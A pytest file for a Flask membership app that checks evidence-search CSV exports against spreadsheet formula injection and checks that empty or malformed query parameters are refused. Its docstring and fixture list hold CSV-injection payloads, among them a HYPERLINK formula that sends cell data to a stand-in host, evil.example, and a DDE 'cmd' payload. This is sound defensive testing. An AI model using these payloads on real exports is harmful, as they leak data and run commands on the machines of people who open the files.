"""The evidence search answers exactly what was asked, and its CSV cannot run in a spreadsheet (issue 18).

The attacks:
- a formula cell: text that reaches the ledger from outside (the quiz name
  ClassMarker sends) such as `=HYPERLINK("http://evil.example/?"&A1,"open")`
  ran as a formula when staff opened the downloaded CSV in a spreadsheet;
- an empty or unreadable query value (`GET /admin/evidence?to=`, found by
  schemathesis against the demo) was taken for "no filter" and silently
  widened the search: "did member X pass" answered with everyone.
"""

from __future__ import annotations

import csv
import io

import pytest
from flask.testing import FlaskClient

from bridge.application import Bridge
from bridge.services.console.exports import EVIDENCE_COLUMNS
from harness.classmarker import quiz_of, result_payload, signed
from harness.launch import SmtpSink
from tests.console.conftest import sign_in
from tests.support import problem

MARTIN, SOLDERING = 5, 6
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


@pytest.fixture
def formula_quiz(client: FlaskClient, bridge: Bridge) -> str:
    """Martin passes a quiz whose name ClassMarker sends as a spreadsheet formula."""
    name = FORMULAS[0]
    body, headers = signed(
        result_payload(bridge.codec.encode(MARTIN, SOLDERING), result_id=9101, test_name=name, quiz=quiz_of(SOLDERING))
    )
    assert client.post("/add_classmarker_training", data=body, headers=headers).json["status"] == "accepted"
    assert [entry.quiz_name for entry in bridge.store.console.find_ledger()[0]] == [name]
    return name


def cells(text: str) -> dict[str, str]:
    table = list(csv.reader(io.StringIO(text)))
    assert table[0] == list(EVIDENCE_COLUMNS) and len(table) == 2
    return dict(zip(table[0], table[1], strict=True))


def test_a_formula_in_the_admin_csv_is_text(client: FlaskClient, api_headers: dict[str, str], formula_quiz: str) -> None:
    answer = client.get("/admin/evidence?format=csv", headers=api_headers)

    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    row = cells(answer.get_data(as_text=True))
    assert row["quiz_name"] == "'" + formula_quiz
    assert row["member_id"] == str(MARTIN)


def test_a_formula_in_the_console_csv_is_text(client: FlaskClient, smtp: SmtpSink, formula_quiz: str) -> None:
    sign_in(client, smtp)

    answer = client.get("/staff/evidence.csv")

    assert answer.status_code == 200
    assert cells(answer.get_data(as_text=True))["quiz_name"] == "'" + formula_quiz


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_formula_start_is_neutralised(formula: str) -> None:
    from bridge.services.console.exports import csv_cell

    assert csv_cell(formula) == "'" + formula
    assert csv_cell("Laser cutter - safety") == "Laser cutter - safety"


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("to=", "to"),
        ("from=", "from"),
        ("from=%20", "from"),
        ("to=2026-13-01", "to"),
        ("from=yesterday", "from"),
        ("member_id=", "member_id"),
        ("member_id=abc", "member_id"),
        ("member_id=-5", "member_id"),
        ("member_id=0", "member_id"),
        ("course_id=", "course_id"),
        ("course_id=9999999999999", "course_id"),
        ("limit=-1", "limit"),
        ("limit=", "limit"),
        ("limit=1.5", "limit"),
        ("offset=", "offset"),
        ("offset=-1", "offset"),
        ("format=", "format"),
        ("format=xlsx", "format"),
    ],
)
def test_an_empty_or_unreadable_evidence_query_is_refused_naming_it(
    client: FlaskClient, api_headers: dict[str, str], formula_quiz: str, query: str, field: str
) -> None:
    answer = client.get(f"/admin/evidence?{query}", headers=api_headers)

    assert answer.status_code in (400, 422)
    body = problem(answer, answer.status_code)
    assert body["field"] == field
    assert field in body["detail"]


def test_a_parameter_given_twice_is_refused(client: FlaskClient, api_headers: dict[str, str], formula_quiz: str) -> None:
    body = problem(client.get(f"/admin/evidence?member_id={MARTIN}&member_id=1", headers=api_headers), 400)

    assert body["field"] == "member_id"


@pytest.mark.parametrize(("query", "field"), [("limit=", "limit"), ("limit=-1", "limit"), ("limit=1&limit=2", "limit")])
def test_an_unreadable_event_list_limit_is_refused_naming_it(
    client: FlaskClient, api_headers: dict[str, str], query: str, field: str
) -> None:
    answer = client.get(f"/admin/events?{query}", headers=api_headers)

    assert answer.status_code in (400, 422)
    assert problem(answer, answer.status_code)["field"] == field
